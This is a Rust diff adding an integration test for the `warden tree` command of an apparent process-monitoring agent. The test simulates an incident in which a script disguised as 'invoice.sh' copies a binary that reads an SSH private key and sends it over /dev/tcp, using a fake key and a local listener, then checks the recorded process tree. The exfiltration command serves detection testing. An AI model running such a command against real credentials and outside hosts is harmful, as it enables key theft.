@@ -2492,3 +2492,209 @@ fn file_changes_are_recorded_with_audit_rules() {
         "auto",
     );
 }
+
+// ---------------------------------------------------------------------------------------------
+// `warden tree`.
+
+/// `warden tree ARGS --format json`, one object per process.
+fn tree_nodes(args: &[&OsStr]) -> Vec<Value> {
+    let out = Command::new(warden())
+        .arg("tree")
+        .args(args)
+        .args(["--format", "json"])
+        .output()
+        .expect("warden tree runs");
+    assert!(
+        out.status.success(),
+        "warden tree {args:?} failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON line {l:?}: {e}")))
+        .collect()
+}
+
+/// An incident as the README tells it: a document's script runs a shell, which copies in a
+/// binary that reads a key and sends it out. Asked about the key's read, `warden tree` shows
+/// the reader with everything it did, its siblings (`--up 1`), and its ancestry up to this
+/// test, which started before the agent.
+#[test]
+fn an_incident_reads_as_one_tree() {
+    let Some((_serial, kernel)) = begin("an_incident_reads_as_one_tree") else {
+        return;
+    };
+    let work = tempfile::tempdir().unwrap();
+    let vault = work.path().join("home/.ssh");
+    std::fs::create_dir_all(&vault).unwrap();
+    let key = vault.join("id_rsa");
+    std::fs::write(&key, b"not a real key\n").unwrap();
+    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let sink = std::thread::spawn(move || {
+        let (mut peer, _) = listener.accept().expect("the updater connects");
+        let mut stolen = Vec::new();
+        std::io::Read::read_to_end(&mut peer, &mut stolen).unwrap();
+        stolen
+    });
+    let mut agent = Agent::start(&format!("[files]\nwatch_paths = [{:?}]\n", s(&vault)));
+    let document = work.path().join("invoice.sh");
+    std::fs::write(
+        &document,
+        "bash -c 'cp /usr/bin/cat \"$1/updater\" && \"$1/updater\" \"$1/home/.ssh/id_rsa\" \
+         > /dev/tcp/127.0.0.1/$2' inner \"$1\" \"$2\"\n",
+    )
+    .unwrap();
+    let status = Command::new("bash")
+        .arg(&document)
+        .arg(work.path())
+        .arg(port.to_string())
+        .status()
+        .unwrap();
+    assert!(status.success());
+    assert_eq!(sink.join().unwrap(), b"not a real key\n");
+    let updater = s(&work.path().join("updater"));
+    agent.wait_for_matching(&["--exe", &updater], "the updater's read and exit", |ev| {
+        has(ev, "read", |e| file_path(e) == s(&key)) && has(ev, "exit", |_| true)
+    });
+
+    let path = OsString::from(format!("{}/*", s(&vault)));
+    let data = agent.data.clone().into_os_string();
+    let store = |extra: &[&str]| {
+        let mut args: Vec<&OsStr> = vec!["--data-dir".as_ref(), &data, "--path".as_ref(), &path];
+        args.extend(extra.iter().map(OsStr::new));
+        tree_nodes(&args)
+    };
+    let nodes = store(&["--up", "1"]);
+    let by_entity = |id: &str| nodes.iter().find(|n| n["entity_id"] == id);
+    // Drawing order: a parent before its children, each one level deeper.
+    for (i, node) in nodes.iter().enumerate() {
+        if let Some(parent) = node["parent_entity_id"].as_str().and_then(by_entity) {
+            let at = nodes.iter().position(|n| n == parent).unwrap();
+            assert!(at < i, "{node} drawn before its parent");
+            assert_eq!(
+                node["depth"].as_u64(),
+                parent["depth"].as_u64().map(|d| d + 1)
+            );
+        }
+    }
+    let reader = nodes
+        .iter()
+        .find(|n| n["executable"] == updater.as_str())
+        .unwrap_or_else(|| panic!("no updater in {nodes:#?}"));
+    assert_eq!(reader["matched"], true);
+    assert_eq!(reader["known"], "recorded");
+    assert!(
+        reader["exit_code"] == 0 && reader["end"].is_string(),
+        "{reader}"
+    );
+    let events = reader["events"].as_array().unwrap();
+    let read = events
+        .iter()
+        .find(|e| e["event"]["event"]["action"] == "read")
+        .unwrap_or_else(|| panic!("no read in {reader}"));
+    assert_eq!(read["matched"], true);
+    assert_eq!(read["event"]["file"]["path"], s(&key));
+    let connect = events
+        .iter()
+        .find(|e| e["event"]["event"]["action"] == "connect")
+        .unwrap_or_else(|| panic!("no connect in {reader}"));
+    assert_eq!(connect["matched"], false);
+    assert_eq!(connect["event"]["destination"]["port"], port);
+    assert!(
+        events
+            .iter()
+            .all(|e| e["event"]["event"]["action"] != "exec"),
+        "the exec naming the process is its line, not an event under it: {reader}"
+    );
+
+    // Its parent, the inner shell, with the copy beside the reader (--up 1).
+    let inner = by_entity(reader["parent_entity_id"].as_str().unwrap()).unwrap();
+    assert!(
+        inner["command_line"]
+            .as_str()
+            .unwrap()
+            .starts_with("bash -c "),
+        "{inner}"
+    );
+    let copy = nodes
+        .iter()
+        .find(|n| n["parent_entity_id"] == inner["entity_id"] && n["executable"] == "/usr/bin/cp")
+        .unwrap_or_else(|| panic!("no cp beside the updater in {nodes:#?}"));
+    assert_eq!(copy["matched"], false);
+    assert!(
+        copy["events"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["event"]["file"]["path"] == updater.as_str()),
+        "{copy}"
+    );
+    // Then the document's shell, and this test: running, started before the agent.
+    let shell = by_entity(inner["parent_entity_id"].as_str().unwrap()).unwrap();
+    assert_eq!(
+        shell["command_line"],
+        format!("bash {} {} {port}", s(&document), s(work.path()))
+    );
+    assert_eq!(
+        shell["events"],
+        Value::Null,
+        "an ancestor's events are not listed"
+    );
+    let test = by_entity(shell["parent_entity_id"].as_str().unwrap()).unwrap();
+    assert_eq!(test["pid"], std::process::id());
+    assert_eq!(test["known"], "running");
+
+    // Without --up, the reader's tree starts at the reader: the copy is not in it.
+    let narrow = store(&[]);
+    assert!(narrow.iter().any(|n| n["executable"] == updater.as_str()));
+    assert!(!narrow.iter().any(|n| n["executable"] == "/usr/bin/cp"));
+
+    // The text: the reader marked, its read marked under it.
+    let text = Command::new(warden())
+        .args(["tree".as_ref(), "--data-dir".as_ref(), data.as_os_str()])
+        .args(["--path".as_ref(), path.as_os_str()])
+        .output()
+        .unwrap();
+    let text = String::from_utf8(text.stdout).unwrap();
+    let reader_line = text
+        .lines()
+        .position(|l| l.contains(&format!("─ * {updater} ")))
+        .unwrap_or_else(|| panic!("{text}"));
+    assert!(
+        text.lines()
+            .skip(reader_line + 1)
+            .any(|l| l.trim_start().starts_with("* ")
+                && l.ends_with(&format!("read  {} success", s(&key)))),
+        "{text}"
+    );
+
+    // The same from the JSON lines the agent could have written: the records alone, no /proc.
+    let jsonl = work.path().join("events.jsonl");
+    std::fs::write(&jsonl, agent.events_output(&[], "json")).unwrap();
+    agent.stop();
+    let offline = tree_nodes(&[
+        "--input".as_ref(),
+        jsonl.as_os_str(),
+        "--path".as_ref(),
+        &path,
+    ]);
+    let reader = offline
+        .iter()
+        .find(|n| n["executable"] == updater.as_str())
+        .unwrap_or_else(|| panic!("no updater in {offline:#?}"));
+    assert_eq!(reader["matched"], true);
+    assert!(
+        offline.iter().all(|n| n["known"] != "running"),
+        "{offline:#?}"
+    );
+
+    // A tree must be about something.
+    let unbounded = Command::new(warden())
+        .args(["tree".as_ref(), "--data-dir".as_ref(), data.as_os_str()])
+        .output()
+        .unwrap();
+    assert!(!unbounded.status.success());
+    assert!(String::from_utf8_lossy(&unbounded.stderr).contains("say which processes"));
+    kernel.check();
+}
